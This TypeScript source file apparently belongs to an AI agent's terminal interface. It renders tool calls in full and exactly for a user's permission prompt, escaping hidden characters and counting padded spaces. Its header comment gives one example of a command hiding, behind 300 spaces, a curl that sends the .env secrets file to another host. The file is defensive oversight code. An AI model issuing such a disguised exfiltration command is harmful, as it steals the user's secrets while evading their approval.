/**
 * What the permission question shows of a tool call: all of it, as it will run. Every field of the
 * input is shown in full and exactly (`terminalSafe`'s `exact` mode: controls, invisible characters
 * and unusual spaces escaped, long runs of spaces counted), long lines wrapped, a real newline told
 * apart from a wrap (`│` starts a line of the value, `┆` continues a wrapped one). A call too long for
 * the screen shows its first and last rows with how much is left out, and the question offers `v` to
 * print it whole: the user never approves text other than what runs.
 *
 *   command: npm test[300 spaces]; curl -d @.env x
 *   description: Run the tests
 */
import { exactSegments } from "./terminal/safe-text.js";
import { charWidth, textWidth } from "./terminal/text-width.js";

/** Rows of a call shown before the middle is left out (its first and last rows are kept). */
export const CALL_ROWS_SHOWN = 30;
const HEAD_ROWS = 20;
const TAIL_ROWS = 8;
/** A call shown inside the question line (`Allow Bash(ls -la)?`) is at most this wide. */
const INLINE_MAX = 100;

/** A tool call as the permission question shows it. */
export interface CallView {
  /**
   * `Name(argument)` when the call is one short, plain value that fits in the question line; otherwise
   * undefined, and the call is shown by `render` above the question.
   */
  inline: string | undefined;
  /**
   * The call's rows at `columns` cells (each ending with a newline). Unless `all`, a call of more than
   * `CALL_ROWS_SHOWN` rows shows its first and last rows and says how much is left out.
   */
  render(columns: number, all: boolean): string;
  /** Whether `render` leaves rows out at `columns` (the question then offers to show it all). */
  isCut(columns: number): boolean;
}

/** The view of `toolName` called with `input`; `mark` styles the stand-ins of escaped characters. */
export function callView(toolName: string, input: unknown, mark: (s: string) => string): CallView {
  const fields = inputFields(input);
  const only = fields.length === 1 ? fields[0] : undefined;
  const inline =
    fields.length === 0
      ? toolName
      : only &&
          !only.value.includes("\n") &&
          only.value.length <= INLINE_MAX &&
          exactSegments(only.value).every((s) => !s.mark)
        ? `${toolName}(${only.value})`
        : undefined;
  const totals = fields.reduce((n, f) => n + f.value.split("\n").length, 0);
  const size = fields.reduce((n, f) => n + f.value.length, 0);
  const rowsAt = (columns: number) => fields.flatMap((f) => fieldRows(f, Math.max(20, columns - 1), mark));
  return {
    inline,
    isCut: (columns) => rowsAt(columns).length > CALL_ROWS_SHOWN,
    render(columns, all) {
      const rows = rowsAt(columns);
      if (all || rows.length <= CALL_ROWS_SHOWN) return `${rows.join("\n")}\n`;
      const left = rows.length - HEAD_ROWS - TAIL_ROWS;
      const note = `  … ${left} rows not shown: the call is ${totals} lines, ${size} characters long (v shows it all)`;
      return `${[...rows.slice(0, HEAD_ROWS), mark(note), ...rows.slice(-TAIL_ROWS)].join("\n")}\n`;
    },
  };
}

/** One field of the input: its name and its value as text (a string as is, anything else as JSON). */
interface Field {
  name: string;
  value: string;
}

/** The input's fields in their order; a non-object input is one field named `input`. */
function inputFields(input: unknown): Field[] {
  if (input === null || typeof input !== "object" || Array.isArray(input))
    return input === undefined ? [] : [{ name: "input", value: JSON.stringify(input) ?? String(input) }];
  return Object.entries(input as Record<string, unknown>).map(([name, v]) => ({
    name,
    value: typeof v === "string" ? v : (JSON.stringify(v) ?? String(v)),
  }));
}

/**
 * The rows of one field at `width` cells: `name: value` for a one-line value, else a `name (N
 * lines):` heading and each line after `│ `; a wrapped row continues after `┆ `.
 */
function fieldRows(field: Field, width: number, mark: (s: string) => string): string[] {
  const name = exactSegments(field.name)
    .map((s) => (s.mark ? mark(s.text) : s.text))
    .join("");
  const lines = field.value.split("\n");
  if (lines.length === 1) return wrapped(`  ${name}: `, "  ┆ ", lines[0], width, mark);
  return [
    `  ${name} (${lines.length} lines):`,
    ...lines.flatMap((line) => wrapped("  │ ", "  ┆ ", line, width, mark)),
  ];
}

/** One line of a value wrapped at `width` cells, stand-ins kept whole and styled by `mark`. */
function wrapped(
  first: string,
  next: string,
  line: string,
  width: number,
  mark: (s: string) => string,
): string[] {
  const rows: string[] = [];
  let row = first;
  let used = textWidth(first);
  const breakRow = () => {
    rows.push(row);
    row = next;
    used = textWidth(next);
  };
  for (const segment of exactSegments(line)) {
    if (segment.mark) {
      if (used + segment.text.length > width && used > textWidth(next)) breakRow();
      row += mark(segment.text);
      used += segment.text.length;
      continue;
    }
    for (const ch of segment.text) {
      const w = charWidth(ch.codePointAt(0) ?? 0);
      if (used + w > width) breakRow();
      row += ch;
      used += w;
    }
  }
  rows.push(row);
  return rows;
}
